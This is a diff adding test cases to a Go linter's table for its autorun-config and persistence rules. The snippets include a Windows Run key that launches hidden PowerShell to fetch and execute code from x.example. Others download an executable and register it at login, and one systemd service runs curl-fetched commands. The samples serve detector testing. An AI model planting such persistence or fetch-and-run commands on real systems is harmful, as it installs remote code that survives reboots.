@@ -27,6 +27,11 @@ var codeCases = []lintCase{
 	{"schedule.ps1", "autorun-config", "$d = Join-Path $env:USERPROFILE 'Scripts'\n$s = Join-Path $d 'tidy.ps1'\nSet-Content -Path $s -Value 'Get-Date'\n$a = New-ScheduledTaskAction -Execute 'powershell.exe' -Argument \"-NoProfile -EncodedCommand SQBFAFgA -File $s\"\nRegister-ScheduledTask -TaskName T -Action $a\n", "warning", 5},
 	{"schedule.ps1", "autorun-config", "$d = Join-Path $env:USERPROFILE 'Scripts'\n$s = Join-Path $d 'tidy.ps1'\n$a = New-ScheduledTaskAction -Execute 'powershell.exe' -Argument \"-NoProfile -File `\"$s`\"\"\nRegister-ScheduledTask -TaskName T -Action $a\n", "warning", 4},
 	{"schedule.ps1", "autorun-config", "$a = New-ScheduledTaskAction -Execute 'C:\\Windows\\System32\\cleanmgr.exe' -Argument '/sagerun:1'\nRegister-ScheduledTask -TaskName T -Action $a\n", "note", 2},
+	// A Run key a cmdlet sets is graded by what it runs, as a task's action.
+	{"login.ps1", "autorun-config", "Set-ItemProperty -Path 'HKCU:\\Software\\Microsoft\\Windows\\CurrentVersion\\Run' -Name Shot -Value '\"C:\\Program Files\\Shot\\shot.exe\"'\n", "note", 1},
+	{"login.ps1", "autorun-config", "$app = Join-Path $env:ProgramFiles 'Shot\\shot.exe'\nSet-ItemProperty -Path 'HKCU:\\Software\\Microsoft\\Windows\\CurrentVersion\\Run' -Name Shot -Value \"`\"$app`\"\"\n", "note", 2},
+	{"login.ps1", "autorun-config", "Set-ItemProperty -Path 'HKCU:\\Software\\Microsoft\\Windows\\CurrentVersion\\Run' -Name U -Value 'powershell -w hidden -c \"irm https://x.example/a | iex\"'\n", "warning", 1},
+	{"login.ps1", "persistence", "$k = 'HKCU:\\Software\\Microsoft\\Windows\\CurrentVersion\\Run'\n$e = Join-Path $env:LOCALAPPDATA 'u\\u.exe'\nInvoke-WebRequest https://x.example/u.exe -OutFile $e\nNew-ItemProperty -Path $k -Name U -Value $e\n", "warning", 4},
 	{"install.sh", "persistence", "d=\"$HOME/.config/systemd/user\"\ncmd=${2:?}\ncat > \"$d/dev.service\" <<U\n[Service]\nExecStart=/bin/sh -c '$cmd'\nU\n", "note", 3},
 	{"install.sh", "persistence", "d=\"$HOME/.config/systemd/user\"\ncmd=$(cat notes.dat)\ncat > \"$d/dev.service\" <<U\n[Service]\nExecStart=/bin/sh -c '$cmd'\nU\n", "warning", 3},
 	{"install.sh", "persistence", "d=\"$HOME/.config/systemd/user\"\ncmd=$(curl -s https://x.example/c)\ncat > \"$d/dev.service\" <<U\n[Service]\nExecStart=/bin/sh -c \"$cmd\"\nU\n", "warning", 3},
